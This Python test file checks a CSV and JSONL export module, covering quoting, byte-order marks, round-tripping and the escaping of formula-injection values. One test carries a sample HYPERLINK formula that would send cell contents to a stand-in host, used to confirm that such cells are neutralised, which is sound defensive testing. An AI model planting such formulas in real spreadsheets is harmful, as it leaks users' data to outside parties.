"""Tables to hand out: a spreadsheet shows what was meant, and computes nothing of it."""

import csv
import json
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from uuid import UUID

import pytest

from shared.sheets import Column, Form, open_table
from shared.sheets.writing import Format, Selection, Writing


@dataclass(frozen=True, kw_only=True)
class _Line:
    id: UUID
    words: str
    at: datetime | None = None
    lat: float | None = None
    count: int = 0
    urgent: bool = False
    tags: tuple[str, ...] = ()


_ID = UUID("019a0000-0000-7000-8000-000000000001")
_COLUMNS = ["id", "words", "at", "lat", "count", "urgent", "tags"]


def _written(format: Format, *lines: _Line) -> bytes:
    writing = Writing(format, _Line)
    return writing.begin() + b"".join(writing.lines([line]) for line in lines)


def _cells(*words: str) -> list[str]:
    """How the words of these lines stand in the file."""
    text = _written(Format.CSV, *(_Line(id=_ID, words=each) for each in words)).decode("utf-8-sig")
    return [row["words"] for row in csv.DictReader(text.splitlines(keepends=True), strict=True)]


def test_a_csv_has_a_mark_a_line_of_names_and_a_line_for_each_row() -> None:
    line = _Line(id=_ID, words="厨房漏水", at=datetime(2026, 3, 2, 8, tzinfo=UTC), lat=-31.5)

    written = _written(Format.CSV, line, _Line(id=_ID, words="", urgent=True, tags=("a", "b")))

    assert written.startswith(b"\xef\xbb\xbf")
    assert written.decode("utf-8-sig").split("\r\n") == [
        ",".join(_COLUMNS),
        f"{_ID},厨房漏水,2026-03-02T08:00:00Z,-31.5,0,false,[]",
        f'{_ID},,,,0,true,"[""a"",""b""]"',
        "",
    ]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_a_text_that_would_be_computed_is_marked_as_one(sign: str) -> None:
    said = f'{sign}HYPERLINK("http://x/?"&A1,"see")'

    assert _cells(said) == [f"'{said}"]


def test_every_other_text_is_as_it_was_said() -> None:
    said = ["漏水, 很急", 'the "big" valve', "two\nlines", "cr\r\nlf", "'tis", "a=b", " =1", "1-2"]

    assert _cells(*said) == said


def test_what_was_written_is_a_table_that_is_read_again(tmp_path: Path) -> None:
    lines = [_Line(id=_ID, words=words) for words in ("one", "two, three", "四\n五")]
    path = tmp_path / "table.csv"
    path.write_bytes(_written(Format.CSV, *lines))

    table = open_table(path, [Form(name="lines", columns=tuple(map(_column, _COLUMNS)))])

    assert [row.values["words"] for row in table] == ["one", "two, three", "四\n五"]
    assert {row.broken for row in table} == {None}


def _column(name: str) -> Column:
    return Column(name=name)


def test_lines_of_json_say_all_as_it_is() -> None:
    written = _written(
        Format.JSONL, _Line(id=_ID, words="=1+1\n", tags=("a",)), _Line(id=_ID, words="")
    )

    first, second, end = written.split(b"\n")
    assert json.loads(first) == {
        "id": str(_ID),
        "words": "=1+1\n",
        "at": None,
        "lat": None,
        "count": 0,
        "urgent": False,
        "tags": ["a"],
    }
    assert json.loads(second)["words"] == ""
    assert end == b""


def test_of_no_rows_a_csv_has_its_names_and_lines_of_json_nothing() -> None:
    assert _written(Format.CSV).decode("utf-8-sig") == ",".join(_COLUMNS) + "\r\n"
    assert _written(Format.JSONL) == b""


def test_sites_are_gone_through_by_id() -> None:
    wanted = Selection(sites={"b", "a", "c"})

    assert [wanted.next_site(after) for after in ("", "a", "b", "c")] == ["a", "b", "c", None]
    assert Selection(sites=()).next_site("") is None
